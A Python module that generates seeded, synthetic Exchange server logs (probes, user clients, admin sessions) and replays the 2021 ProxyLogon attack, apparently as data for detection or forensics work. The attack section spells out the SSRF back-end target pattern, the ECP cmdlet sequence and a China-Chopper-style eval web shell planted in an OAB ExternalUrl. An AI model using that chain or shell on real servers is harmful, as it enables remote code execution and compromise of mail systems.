"""What a small organisation's Exchange server sees: users, clients, probes, and attacks.

Everything here is data: :class:`Org` describes the organisation and :class:`Request` one HTTP
request as the front end (Cafe) handled it; :func:`proxylogon_chain` is the HAFNIUM sequence of
March 2021 with the ECP cmdlets it caused and the web-shell use after it. The generator renders
requests into HttpProxy, IIS front-end (W3SVC1) and back-end (W3SVC2) lines. All randomness
comes from one seeded ``random.Random``, so a seed always gives the same server.
"""

from __future__ import annotations

import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/88.0.4324.192 Safari/537.36 Edg/88.0.705.81",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/14.0.3 Safari/605.1.15",
)
OUTLOOKS = (
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)",
)
MOBILES = (
    ("Apple-iPhone12C1/1804.52", "iPhone"),
    ("Apple-iPhone11C8/1804.52", "iPhone"),
    ("Outlook-iOS-Android/1.0", "Outlook"),
    ("SAMSUNG-SM-G973F/101.10000", "SAMSUNGSMG973F"),
)
PROBE_UA = "AMProbe/Local/ClientAccess"
WINRM_UA = "Microsoft WinRM Client"


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


FIRST_NAMES = _words(
    "anna bjorn carla david emma frank greta hans ida jonas karin lars maria nils olga per "
    "rita sven tina ulf vera willem xenia yusuf zoe alex bea chris dana erik"
)
LAST_NAMES = _words(
    "berg holm lund dahl strand nyberg wolf meyer kaur novak silva costa moreau fischer "
    "jensen larsen ahmed khan petrov rossi"
)
COMPANIES = ("contoso", "fabrikam", "northwind", "adatum", "woodgrove", "tailspin")
# Consumer ISP / mobile carrier /16 prefixes used for remote users.
REMOTE_PREFIXES = ("84.208", "89.10", "176.11", "46.212", "91.189", "77.16", "95.34", "178.232")


def guid(rng: random.Random) -> str:
    """A random (version 4) GUID from ``rng``."""
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


@dataclass(frozen=True, slots=True)
class User:
    """One mailbox user and the clients they use."""

    sam: str
    email: str
    sid: str
    mailbox_guid: str
    desktop_ip: str
    remote_ip: str
    browser: str
    outlook: str
    mobile: tuple[str, str] | None
    device_id: str
    remote: bool


@dataclass(frozen=True, slots=True)
class Org:
    """The organisation and its single Exchange server."""

    netbios: str
    ad_domain: str
    email_domain: str
    host: str
    server_ip: str
    users: tuple[User, ...]
    admin: User
    admin_ip: str
    health_mailbox: str
    oab_guid: str
    oab_vdir_guid: str

    @property
    def fqdn(self) -> str:
        return f"{self.host}.{self.ad_domain}".lower()

    @property
    def mail_host(self) -> str:
        return f"mail.{self.email_domain}"

    @property
    def health_user(self) -> str:
        return f"{self.netbios}\\{self.health_mailbox}"

    def account(self, user: User) -> str:
        return f"{self.netbios}\\{user.sam}"


def make_org(rng: random.Random, users: int = 30, host: str | None = None) -> Org:
    """A small organisation of ``users`` mailboxes (20-50 is typical for one server)."""
    if users < 1:
        raise ValueError("an organisation needs at least one user (its administrator)")
    company = rng.choice(COMPANIES)
    domain_sid = "S-1-5-21-" + "-".join(str(rng.randrange(10**9, 4 * 10**9)) for _ in range(3))
    people = _people(rng, users, company, domain_sid)
    return Org(
        netbios=company.upper(), ad_domain=f"corp.{company}.com", email_domain=f"{company}.com",
        host=host or rng.choice(("EXCH01", "MAIL01", "EX2016")),
        server_ip=f"10.10.1.{rng.randrange(10, 40)}", users=people, admin=people[0],
        admin_ip=f"10.10.5.{rng.randrange(10, 60)}",
        health_mailbox="HealthMailbox" + uuid.UUID(int=rng.getrandbits(128)).hex,
        oab_guid=guid(rng), oab_vdir_guid=guid(rng),
    )  # fmt: skip


def _people(rng: random.Random, count: int, company: str, domain_sid: str) -> tuple[User, ...]:
    names: list[str] = []
    while len(names) < count:
        name = f"{rng.choice(FIRST_NAMES)}.{rng.choice(LAST_NAMES)}"
        if name not in names:
            names.append(name)
    return tuple(
        _person(rng, name, company, f"{domain_sid}-{1105 + i}") for i, name in enumerate(names)
    )


def _person(rng: random.Random, sam: str, company: str, sid: str) -> User:
    remote = f"{rng.choice(REMOTE_PREFIXES)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return User(
        sam=sam, email=f"{sam}@{company}.com", sid=sid, mailbox_guid=guid(rng),
        desktop_ip=f"10.10.{rng.randrange(20, 24)}.{rng.randrange(10, 250)}", remote_ip=remote,
        browser=rng.choice(BROWSERS), outlook=rng.choice(OUTLOOKS),
        mobile=rng.choice(MOBILES) if rng.random() < 0.6 else None,
        device_id=uuid.UUID(int=rng.getrandbits(128)).hex.upper(), remote=rng.random() < 0.3,
    )  # fmt: skip


@dataclass(frozen=True, slots=True)
class Request:
    """One request through the front end, with what the back end saw when it was proxied.

    Field names follow the logs: ``protocol`` is the HttpProxy folder, ``anchor`` the
    AnchorMailbox, ``user`` the AuthenticatedUser, ``iis_user`` the front end's cs-username.
    ``front`` is false for requests made to the back end directly (its own health probes).
    """

    time: datetime
    protocol: str
    method: str
    stem: str
    query: str = ""
    status: int = 200
    client_ip: str = "127.0.0.1"
    user_agent: str = ""
    user: str = ""
    auth: str = ""
    anchor: str = ""
    url_host: str = ""
    proxied: bool = True
    front: bool = True
    routing_hint: str = ""
    target: str = ""
    backend_stem: str = ""
    backend_query: str = ""
    backend_user: str = ""
    iis_user: str = ""
    action: str = ""
    elapsed_ms: int = 20
    request_id: str = ""
    request_bytes: int = 0
    response_bytes: int = 0
    referer: str = ""

    @property
    def substatus(self) -> tuple[int, int]:
        """IIS sc-substatus and sc-win32-status (anonymous 401 challenge: 2 and 5)."""
        return (2, 5) if self.status == 401 else (0, 0)


def with_ids(rng: random.Random, requests: list[Request]) -> list[Request]:
    """Give every request a RequestId (the Cafe request id, also IIS ``cafeReqId``)."""
    return [r if r.request_id else replace(r, request_id=guid(rng)) for r in requests]


def iter_days(start: datetime, end: datetime) -> Iterator[date]:
    """The UTC days that ``start`` (inclusive) to ``end`` (exclusive) touch."""
    day = start.date()
    while day <= (end - timedelta(microseconds=1)).date():
        yield day
        day += timedelta(days=1)


def at(day: date, hour: float, rng: random.Random, spread_min: float = 0) -> datetime:
    """A time on ``day`` at ``hour`` (UTC), jittered by up to ``spread_min`` minutes."""
    base = datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(hours=hour)
    return base + timedelta(
        seconds=rng.uniform(0, spread_min * 60), milliseconds=rng.randrange(1000)
    )


# -- health probes -------------------------------------------------------------------------

# protocol, method, stem, query, user agent, authentication
_PROBES = [
    line.split("|")
    for line in (
        "Autodiscover|POST|/autodiscover/autodiscover.xml||" + PROBE_UA + "|Negotiate",
        "Eas|OPTIONS|/Microsoft-Server-ActiveSync/default.eas||" + PROBE_UA + "|Basic",
        "Ecp|GET|/ecp/||" + PROBE_UA + "|Negotiate",
        "Ews|GET|/ews/||" + PROBE_UA + "|Negotiate",
        "Mapi|POST|/mapi/emsmdb/|mailboxId={mbx}|MapiHttpClient|Negotiate",
        "Oab|GET|/OAB/||" + PROBE_UA + "|Negotiate",
        "Owa|GET|/owa/||" + PROBE_UA + "|Negotiate",
        "OwaCalendar|GET|/owa/calendar/||" + PROBE_UA + "|Negotiate",
        "PowerShell|POST|/powershell|clientApplication=ActiveMonitor;PSVersion=5.1.14393.4169|"
        + WINRM_UA
        + "|Kerberos",
        "RpcHttp|RPC_IN_DATA|/rpc/rpcproxy.dll|{fqdn}:6001|MSRPC|NTLM",
    )
]


def iter_probes(
    org: Org, rng: random.Random, start: datetime, end: datetime, spacing_min: float = 6
) -> Iterator[Request]:
    """Managed-availability probes: each protocol once an hour, one every few minutes."""
    mailbox = f"{org.health_mailbox}@{org.email_domain}"
    base = Request(
        time=start,
        protocol="",
        method="",
        stem="",
        user=org.health_user,
        url_host=org.fqdn,
        anchor=f"Smtp~{mailbox}",
        routing_hint="WindowsIdentity",
        iis_user=org.health_user,
    )
    hour = start
    while hour < end:
        order = list(_PROBES)
        rng.shuffle(order)
        for slot, (protocol, method, stem, query, ua, auth) in enumerate(order):
            when = hour + timedelta(minutes=slot * spacing_min, seconds=rng.uniform(0, 300))
            action = "New-PSSession:Receive" if protocol == "PowerShell" else ""
            yield replace(
                base,
                time=when,
                protocol=protocol,
                method=method,
                stem=stem,
                user_agent=ua,
                query=query.format(mbx=mailbox, fqdn=org.fqdn),
                auth=auth,
                action=action,
                elapsed_ms=rng.randrange(3, 40),
                response_bytes=rng.randrange(200, 5000),
            )
        hour += timedelta(hours=1)


def iter_backend_probes(
    org: Org, rng: random.Random, start: datetime, end: datetime
) -> Iterator[Request]:
    """Remote PowerShell probes sent straight to the back end (port 444), once an hour."""
    base = Request(
        time=start, protocol="PowerShell", method="POST", stem="/PowerShell",
        query="clientApplication=ActiveMonitor;PSVersion=5.1.14393.4169", client_ip=org.server_ip,
        user_agent="Exchange BackEnd Probes", user=org.health_user, auth="Kerberos",
        url_host=org.fqdn, front=False, action="New-PSSession:Receive",
    )  # fmt: skip
    hour = start
    while hour < end:
        when = hour + timedelta(seconds=rng.uniform(0, 3600))
        yield replace(base, time=when, elapsed_ms=rng.randrange(20, 200))
        hour += timedelta(hours=1)


# -- user traffic --------------------------------------------------------------------------

_OWA_ACTIONS = _words(
    "GetFolder FindItem GetItem FindConversation GetConversationItems GetOwaUserConfiguration "
    "CreateItem UpdateItem GetAttachment"
)


def iter_user_day(
    org: Org, user: User, day: date, rng: random.Random, density: float
) -> Iterator[Request]:
    """One user's requests on one day: Outlook, maybe OWA, maybe a phone."""
    weekend = day.weekday() >= 5
    if not weekend or rng.random() < 0.15:
        yield from _outlook_day(org, user, day, rng, density, weekend)
    if rng.random() < (0.1 if weekend else 0.3) * density + 0.05:
        yield from _owa_session(org, user, at(day, rng.uniform(6, 20), rng, 10), rng)
    if user.mobile:
        yield from _phone_day(org, user, day, rng, density)


def _client_ip(user: User, day: date) -> str:
    """Remote workers come in from the internet every other day."""
    return user.remote_ip if user.remote and day.toordinal() % 2 == 0 else user.desktop_ip


def _base(org: Org, user: User, ip: str, ua: str, auth: str) -> Request:
    account = org.account(user)
    return Request(
        time=datetime.min.replace(tzinfo=UTC),
        protocol="",
        method="POST",
        stem="",
        client_ip=ip,
        user_agent=ua,
        user=account,
        auth=auth,
        anchor=f"Sid~{user.sid}",
        url_host=org.mail_host,
        routing_hint="WindowsIdentity",
        iis_user=account,
    )


def _anonymous(base: Request) -> Request:
    """The unauthenticated variant the front end answers itself (401 challenge, logon page)."""
    return replace(base, user="", iis_user="", anchor="", routing_hint="", proxied=False)


def _outlook_day(
    org: Org, user: User, day: date, rng: random.Random, density: float, weekend: bool
) -> Iterator[Request]:
    base = _base(org, user, _client_ip(user, day), user.outlook, "Negotiate")
    challenge = replace(_anonymous(base), status=401, elapsed_ms=2)
    login = at(day, rng.uniform(8, 18) if weekend else rng.uniform(6.5, 8.5), rng)
    autodiscover = "/autodiscover/autodiscover.xml"
    mapi = f"MailboxId={user.mailbox_guid}@{org.email_domain}"
    yield replace(challenge, time=login, protocol="Autodiscover", stem=autodiscover)
    yield replace(base, time=login + timedelta(seconds=1), protocol="Autodiscover",
                  stem=autodiscover, elapsed_ms=rng.randrange(20, 90))  # fmt: skip
    yield replace(challenge, time=login + timedelta(seconds=2), protocol="Mapi",
                  stem="/mapi/emsmdb/", query=mapi)  # fmt: skip
    mailbox = replace(base, protocol="Mapi", query=mapi, routing_hint="MailboxGuidWithDomain",
                      anchor=f"MailboxGuid~{user.mailbox_guid}")  # fmt: skip
    calls = max(1, round(rng.randrange(4, 9) * density))
    span = 3600 * (1.0 if weekend else 9.0)
    for i in range(calls):
        when = login + timedelta(seconds=3 + i * span / calls + rng.uniform(0, 600))
        yield replace(mailbox, time=when, stem="/mapi/nspi/" if i % 4 == 3 else "/mapi/emsmdb/",
                      elapsed_ms=rng.randrange(5, 400), request_bytes=rng.randrange(200, 4000),
                      response_bytes=rng.randrange(200, 90000))  # fmt: skip
    if rng.random() < 0.6 * density:
        yield replace(base, time=login + timedelta(hours=rng.uniform(0.5, 6)), protocol="Ews",
                      stem="/EWS/Exchange.asmx", elapsed_ms=rng.randrange(30, 300))  # fmt: skip
    if rng.random() < 0.4:
        yield replace(base, time=login + timedelta(minutes=rng.uniform(1, 30)), protocol="Oab",
                      method="GET", stem=f"/OAB/{org.oab_guid}/oab.xml")  # fmt: skip


def _owa_session(org: Org, user: User, start: datetime, rng: random.Random) -> Iterator[Request]:
    host = org.mail_host
    base = replace(_base(org, user, _client_ip(user, start.date()), user.browser, "FBA"),
                   protocol="Owa", referer=f"https://{host}/owa/")  # fmt: skip
    anon = replace(_anonymous(base), method="GET", referer="")
    logon = f"https://{host}/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2f{host}%2fowa"
    back = f"url=https%3a%2f%2f{host}%2fowa%2f&reason=0"
    yield replace(anon, time=start, stem="/owa/", status=302, elapsed_ms=1)
    yield replace(
        anon, time=start + timedelta(seconds=0.3), stem="/owa/auth/logon.aspx", query=back
    )
    t = start + timedelta(seconds=rng.uniform(5, 20))
    typed = user.sam if rng.random() < 0.5 else user.email
    yield replace(anon, time=t, method="POST", stem="/owa/auth.owa", status=302, iis_user=typed,
                  referer=logon, elapsed_ms=rng.randrange(10, 60))  # fmt: skip
    yield replace(base, time=t + timedelta(seconds=0.4), method="GET", stem="/owa/", referer=logon,
                  elapsed_ms=rng.randrange(40, 300))  # fmt: skip
    for _ in range(rng.randrange(3, 10)):
        t += timedelta(seconds=rng.uniform(2, 240))
        action = rng.choice(_OWA_ACTIONS)
        yield replace(base, time=t, stem="/owa/service.svc", action=action,
                      query=f"action={action}&app=Mail&n={rng.randrange(1, 200)}",
                      elapsed_ms=rng.randrange(8, 250))  # fmt: skip
    if rng.random() < 0.15:  # the user opens their options (ECP)
        yield replace(base, time=t + timedelta(seconds=30), protocol="Ecp", method="GET",
                      stem="/ecp/", query="rfr=owa&p=PersonalSettings/HomePage.aspx")  # fmt: skip


def _phone_day(
    org: Org, user: User, day: date, rng: random.Random, density: float
) -> Iterator[Request]:
    """ActiveSync: long Ping requests all day, a Sync now and then, from a carrier address."""
    ua, device_type = user.mobile or MOBILES[0]
    ip = f"{user.remote_ip.rsplit('.', 1)[0]}.{rng.randrange(1, 255)}"
    stem = "/Microsoft-Server-ActiveSync/default.eas"
    base = replace(_base(org, user, ip, ua, "Basic"), protocol="Eas", stem=stem,
                   anchor=f"Smtp~{user.email}")  # fmt: skip
    device = f"User={user.sam}&DeviceId={user.device_id}&DeviceType={device_type}"
    hour, step = rng.uniform(5, 7), 1.5 / max(density, 0.1)
    while hour < 21.5:
        cmd = "Sync" if rng.random() < 0.3 else "Ping"
        took = rng.randrange(60_000, 900_000) if cmd == "Ping" else rng.randrange(30, 400)
        yield replace(base, time=at(day, hour, rng, 20), query=f"Cmd={cmd}&{device}", action=cmd,
                      elapsed_ms=took)  # fmt: skip
        hour += rng.uniform(0.5, 2.0) * step


def iter_admin(org: Org, rng: random.Random, day: date) -> Iterator[Request]:
    """The administrator's Remote PowerShell session on some working days."""
    if day.weekday() >= 5 or rng.random() < 0.6:
        return
    base = replace(_base(org, org.admin, org.admin_ip, WINRM_UA, "Kerberos"), url_host=org.fqdn,
                   protocol="PowerShell", stem="/powershell",
                   query="serializationLevel=Full;clientApplication=ExchangeShell")  # fmt: skip
    t = at(day, rng.uniform(8, 15), rng)
    for i in range(rng.randrange(2, 5)):
        action = "New-PSSession:Receive" if i == 0 else "Get-Mailbox:Command"
        yield replace(base, time=t + timedelta(seconds=i * rng.uniform(5, 90)), action=action,
                      elapsed_ms=rng.randrange(40, 900))  # fmt: skip


# -- ECP administration and the ProxyLogon chain -------------------------------------------

ATTACKER_IP = "104.140.114.110"  # Volexity / CISA AA21-062A
WEBSHELL_IP = "139.162.202.236"  # web-shell access seen in a published incident (helsecert)
SSRF_UA = "python-requests/2.25.1"
EWS_UA = "ExchangeServicesClient/0.0.0.0"
WEBSHELL_NAME = "RedirSuiteServerProxy.aspx"


@dataclass(frozen=True, slots=True)
class EcpCall:
    """One cmdlet the ECP back end ran, as the ECP Server log records it."""

    time: datetime
    url: str
    cmd: str


def canary(rng: random.Random) -> str:
    """An ECP ``msExchEcpCanary`` value (75 URL-safe characters and a dot)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(75)) + "."


def admin_vdir_change(org: Org, rng: random.Random) -> tuple[Request, EcpCall]:
    """A legitimate virtual-directory URL change by the administrator through ECP."""
    when = datetime(2021, 2, 25, 10, 42, 17, 318000, tzinfo=UTC)
    query = f"schema=OWAVirtualDirectory&msExchEcpCanary={canary(rng)}"
    stem = "/ecp/DDI/DDIService.svc/SetObject"
    base = _base(org, org.admin, org.admin_ip, org.admin.browser, "FBA")
    request = replace(
        base, time=when, protocol="Ecp", stem=stem, query=query, url_host=org.fqdn, elapsed_ms=412
    )
    cmd = (
        f"Set-OwaVirtualDirectory.ExternalUrl='https://{org.mail_host}/owa'"
        f".Identity='{org.host}\\owa (Default Web Site)'"
    )
    return request, EcpCall(when - timedelta(milliseconds=60), f"{stem}?{query}", cmd)


_DDI = "/ecp/DDI/DDIService.svc/"
_CHAIN = (
    # name, seconds after start, back-end path ({q}: canary query), status, user agent
    ("autodiscover", 0.0, "/autodiscover/autodiscover.xml?#", 200, EWS_UA),
    ("emsmdb", 1.5, "/mapi/emsmdb/?#", 200, SSRF_UA),
    ("proxylogon", 4.0, "/ecp/proxyLogon.ecp?#", 241, SSRF_UA),
    ("getobject", 9.3, _DDI + "GetObject?{q}&schema=OABVirtualDirectory#", 200, SSRF_UA),
    ("setobject", 13.1, _DDI + "SetObject?{q}&schema=OABVirtualDirectory#", 200, SSRF_UA),
    ("reset", 15.4, _DDI + "SetObject?{q}&schema=ResetOABVirtualDirectory#", 200, SSRF_UA),
    ("cleanup", 18.9, _DDI + "SetObject?{q}&schema=OABVirtualDirectory#", 200, SSRF_UA),
)  # fmt: skip
CHAIN_STEPS = tuple(step[0] for step in _CHAIN)


@dataclass(frozen=True, slots=True)
class Chain:
    """A ProxyLogon exploitation (CVE-2021-26855 + 27065) and the web-shell use after it."""

    steps: tuple[Request, ...]
    ecp: tuple[EcpCall, ...]
    canary: str
    key: str
    stem: str
    backend_user: str
    shell: tuple[Request, ...]

    @property
    def reset_time(self) -> datetime:
        return self.steps[CHAIN_STEPS.index("reset")].time


def webshell_script(key: str) -> str:
    """The China-Chopper-style one-liner planted in the OAB virtual directory's ExternalUrl."""
    return (
        'http://f/<script language="JScript" runat="server">'
        f'function Page_Load(){{eval(Request["{key}"],"unsafe");}}</script>'
    )


def proxylogon_chain(org: Org, rng: random.Random, install: str) -> Chain:
    """The HAFNIUM sequence of 2021-03-03 as logged in HttpProxy\\Ecp, IIS and ECP Server."""
    start = datetime(2021, 3, 3, 6, 49, 41, tzinfo=UTC) + timedelta(seconds=rng.randrange(3600))
    token = canary(rng)
    key = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    stem = f"/ecp/{rng.choice('abcdefghijklmnopqrstuvwxyz')}.js"
    machine = f"{org.netbios}\\{org.host}$"
    base = Request(
        time=start, protocol="Ecp", method="POST", stem=stem, client_ip=ATTACKER_IP, auth="FBA",
        url_host=org.mail_host, routing_hint="X-BEResource-Cookie", backend_user=machine,
    )  # fmt: skip
    steps = []
    for _, offset, path, status, ua in _CHAIN:
        path = path.format(q=f"msExchEcpCanary={token}")
        target = f"a]@{org.fqdn}:444{path}"
        backend, _, query = path.rstrip("#").partition("?")
        when = start + timedelta(seconds=offset, milliseconds=rng.randrange(400))
        steps.append(replace(
            base, time=when, status=status, user_agent=ua, anchor=f"ServerInfo~{target}",
            target=target, backend_stem=backend, backend_query=query,
            elapsed_ms=rng.randrange(60, 900), request_id=guid(rng),
        ))  # fmt: skip
    ecp = _chain_ecp(org, steps, key, install)
    shell = _webshell_requests(org, rng, steps[CHAIN_STEPS.index("reset")].time)
    return Chain(tuple(steps), tuple(ecp), token, key, stem, machine, tuple(shell))


def _chain_ecp(org: Org, steps: list[Request], key: str, install: str) -> list[EcpCall]:
    vdir, site = org.oab_vdir_guid, f"{org.host}\\OAB (Default Web Site)"
    new_vdir = (
        f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{org.host}'"
        f".Role='ClientAccess'.InternalURL='https://{org.fqdn}/OAB'"
        f".Path='{install}\\FrontEnd\\HttpProxy\\OAB'"
    )
    commands = {
        "getobject": [
            "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null",
            "Pipeline.1|Get-MailboxRegionalConfiguration",
        ],
        "setobject": [
            f"Set-OabVirtualDirectory.ExternalUrl='{webshell_script(key)}'.Identity='{vdir}'",
            f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vdir}'",
        ],
        "reset": [
            f"Get-OABVirtualDirectory.Identity='{vdir}'",
            f"Get-ExchangeServer.Identity='{org.host}'",
            f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vdir}'",
            f"Remove-OABVirtualDirectory.Force=$true.Identity='{site}'",
            new_vdir,
            f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{site}'",
        ],
        "cleanup": [f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vdir}'"],
    }
    calls = []
    for name, step in zip(CHAIN_STEPS, steps, strict=True):
        cmds = commands.get(name, [])
        url = f"{step.backend_stem}?{step.backend_query}"
        for i, cmd in enumerate(cmds):
            calls.append(
                EcpCall(step.time - timedelta(milliseconds=80 * (len(cmds) - i)), url, cmd)
            )
    return calls


# Web-shell sessions (day of March 2021, hour): LSASS dump on the 4th, archive on the 5th.
SHELL_SESSIONS = ((4, 1.2), (5, 3.1), (7, 17.4), (9, 20.6))


def _webshell_requests(org: Org, rng: random.Random, reset: datetime) -> list[Request]:
    base = Request(
        time=reset + timedelta(minutes=2, seconds=rng.randrange(60)), protocol="Owa",
        method="GET", stem=f"/owa/auth/{WEBSHELL_NAME}", client_ip=ATTACKER_IP, auth="FBA",
        url_host=org.mail_host, user_agent=SSRF_UA, proxied=False, elapsed_ms=rng.randrange(30, 90),
    )  # fmt: skip
    out = [base]  # the attacker checks that the shell answers
    for day, hour in SHELL_SESSIONS:
        start = datetime(2021, 3, day, tzinfo=UTC) + timedelta(
            hours=hour, seconds=rng.randrange(900)
        )
        when = start
        for _ in range(rng.randrange(3, 8)):
            when += timedelta(milliseconds=rng.randrange(4000, 40000))
            out.append(replace(
                base, time=when, method="POST", client_ip=WEBSHELL_IP, user_agent="antSword/v2.1",
                elapsed_ms=rng.randrange(30, 400), request_bytes=rng.randrange(200, 3000),
            ))  # fmt: skip
    return out
